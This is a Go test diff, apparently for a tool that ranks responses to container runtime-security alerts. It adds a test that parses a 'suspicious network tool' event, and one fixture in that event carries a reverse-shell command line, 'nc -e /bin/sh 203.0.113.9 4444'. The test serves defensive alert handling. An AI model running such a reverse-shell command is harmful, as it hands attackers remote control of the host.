@@ -4,6 +4,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/falconer-go/falconer/event"
 )
 
 // TestFirst holds what the short form begins with.
@@ -88,5 +90,24 @@ func TestFirst(t *testing.T) {
 	f = For(sample(t)).First
 	if len(f.Actions) == 0 || f.Actions[0].Snippets == nil {
 		t.Errorf("actions on a test tool: %+v", f.Actions)
+	}
+}
+
+// TestContainingFirst: what a sure alert most likely comes to stands first.
+func TestContainingFirst(t *testing.T) {
+	contains := func(o Outcome) bool {
+		return slices.ContainsFunc(o.Snippets, func(s Snippet) bool { return s.Changes })
+	}
+	for cmdline, want := range map[string]bool{"nc -e /bin/sh 203.0.113.9 4444": true, "nc -l 8080": false} {
+		e, err := event.Parse([]byte(`{"rule": "Launch Suspicious Network Tool in Container", "source": "syscall", "priority": "Notice",
+			"time": "2026-01-02T03:04:05Z", "output": "a tool", "output_fields": {"proc.name": "nc", "proc.cmdline": "` + cmdline + `", "proc.pname": "sh",
+			"container.id": "3ad7b26ded6d", "k8s.ns.name": "shop", "k8s.pod.name": "api-6c9f8d7b5c-x2x8q"}}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		then := For(e).First.Then
+		if len(then) < 3 || contains(then[0]) != want {
+			t.Errorf("%s: the first outcome contains: %v, want %v", cmdline, !want, want)
+		}
 	}
 }
